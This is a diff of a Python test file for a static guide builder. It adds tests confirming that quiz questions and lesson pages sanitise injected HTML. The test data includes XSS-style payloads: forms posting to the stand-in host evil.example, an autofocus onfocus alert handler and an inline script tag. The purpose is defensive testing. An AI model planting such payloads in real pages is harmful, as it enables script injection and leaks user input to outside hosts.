@@ -21,7 +21,7 @@ from build_tools.model.guide import Chapter, Frame
 from build_tools.model.site import Page
 from build_tools.options import Options
 from build_tools.publish import publish
-from build_tools.read import read
+from build_tools.read import read, read_quiz
 from build_tools.review import review
 from build_tools.survey import stray
 
@@ -53,9 +53,10 @@ def _apply(attack: dict[str, Any], docs: Path) -> None:
         "introduction": "articles/_chapters/urgency.md",
         "timeline": "articles/_timeline.yml",
         "page": "contribute/evil.md",
+        "quiz": "articles/well.quiz.yml",
     }.items():
         if key in attack:
-            files[path] = attack[key]
+            files[path] = _grown(attack[key])
     for name, text in files.items():
         (docs / name).parent.mkdir(parents=True, exist_ok=True)
         (docs / name).write_text(text, "utf-8", newline="\n")
@@ -119,6 +120,44 @@ def test_text_cannot_act_even_without_the_lint(chapters: tuple[Chapter, ...]) ->
     assert tried >= 40
 
 
+HAND = """written:
+  - kind: single_choice
+    stem: {0}
+    options:
+      - {{text: 井是村庄的记忆, correct: true, remark: {0}}}
+      - {{text: {0}}}
+      - {{text: 井是村口的树木}}
+    explanation: {0}
+    cites: [井是村庄的记忆]
+    chapter: {1}
+"""
+
+
+def test_questions_by_hand_cannot_act_even_without_the_lint(chapters: tuple[Chapter, ...]) -> None:
+    """What acts in an article comes out as text on lesson and practice when it stands in a question by hand."""
+    text = _article({})
+    plain = pipeline.study(pipeline.Source("well", "well.md", text), chapters)
+    chapter = plain.findings.placements[0].chapter
+    tried = 0
+    for attack in ATTACKS:
+        payload = attack.get("body", "").replace("\n", " ")
+        if not payload or len(payload) > 100:
+            continue
+        quoted = "'" + payload.replace("'", "''") + "'"
+        sheet = HAND.format(quoted, chapter)
+        try:
+            made = pipeline.study_article(plain.article, chapters, read_quiz(sheet, "well.quiz.yml"))
+        except ContentError:
+            continue  # refused before there is a question
+        site = publish(guide(OPTIONS_TITLE, chapters, (made,), Frame((), ())))
+        shown = [_rendered(page) for page in site.pages if page.path.startswith("lessons/")]
+        asked = [question for question in made.questions if question.state == "written"]
+        if asked:
+            assert all(unsafe(page, asking=True) == "" for page in shown), attack["name"]
+            tried += any("sg-q__state" in page for page in shown)
+    assert tried >= 25
+
+
 @pytest.mark.parametrize(
     "page",
     [
@@ -140,12 +179,29 @@ def test_the_second_line_sees_what_acts(page: str) -> None:
     assert unsafe(page)
 
 
+@pytest.mark.parametrize(
+    "form",
+    [
+        '<form action="https://evil.example"><input></form>',
+        '<form><button formaction="https://evil.example">答</button></form>',
+        '<form><input onfocus="alert(1)" autofocus></form>',
+        "<form><script>alert(1)</script></form>",
+    ],
+)
+def test_forms_of_questions_send_nothing(form: str) -> None:
+    """On pages with questions a form that sends, or that runs a script, is seen."""
+    assert unsafe(form, asking=True)
+
+
 def test_the_second_line_passes_the_guide(built_site: Path) -> None:
     """No article, chapter or hand-written page of the built guide holds anything that nh3 would take away."""
     for path in [*built_site.glob("articles/*/index.html"), *built_site.glob("chapters/*/index.html")]:
         content = re.search(r"<article.*?>(.*)</article>", path.read_text("utf-8"), re.DOTALL)
         assert content, path
         assert unsafe(content.group(1)) == "", path
+    for path in built_site.glob("lessons/*/*/index.html"):
+        content = re.search(r"<article.*?>(.*)</article>", path.read_text("utf-8"), re.DOTALL)
+        assert content and unsafe(content.group(1), asking=True) == "", path
 
 
 @pytest.mark.parametrize(
